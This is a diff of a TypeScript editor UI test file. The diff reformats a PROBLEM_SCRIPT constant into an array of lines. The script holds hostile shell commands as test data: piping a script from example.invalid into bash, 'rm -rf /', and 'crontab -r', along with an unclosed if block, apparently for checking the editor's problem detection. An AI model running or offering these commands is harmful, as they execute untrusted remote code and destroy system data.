@@ -14,7 +14,14 @@ const suffix = process.env.SCREENSHOT_SUFFIX ?? 'after';
 
 const eventually = <T>(fn: () => T | Promise<T>) => expect.poll(fn, { timeout: 30_000, interval: 100 });
 
-export const PROBLEM_SCRIPT = 'curl -s http://example.invalid/x.sh | bash\nrm -rf /\ncrontab -r\nif true; then\n  echo done\n';
+export const PROBLEM_SCRIPT = [
+  'curl -s http://example.invalid/x.sh | bash',
+  'rm -rf /',
+  'crontab -r',
+  'if true; then',
+  '  echo done',
+  '',
+].join('\n');
 
 async function replaceEditorText(page: Page, text: string): Promise<void> {
   await page.getByTestId('code-editor').locator('.view-lines').click();
